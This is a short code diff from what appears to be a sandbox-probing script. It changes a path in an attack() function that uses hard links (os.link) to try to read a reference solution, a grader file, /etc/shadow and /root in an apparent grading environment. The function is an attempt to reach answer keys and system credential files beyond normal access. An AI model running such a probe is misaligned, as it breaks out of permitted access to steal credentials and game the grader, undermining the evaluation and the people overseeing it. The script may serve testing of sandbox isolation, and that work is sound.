@@ -19,7 +19,7 @@ def read(link, path, number):
 
 def attack():
     root = Path(torch.__file__).parents[5]
-    paths = (root / "reference/silu.py", root / "grader/model/catalogue.py", Path("/etc/shadow"), Path("/root"))
+    paths = (root / "reference/silu.py", root / "grader/course/catalogue.py", Path("/etc/shadow"), Path("/root"))
     tries = []
     for number, path in enumerate(paths):
         tries.append(worked("link", lambda path=path, n=number: read(os.link, path, f"{n}-hard")))
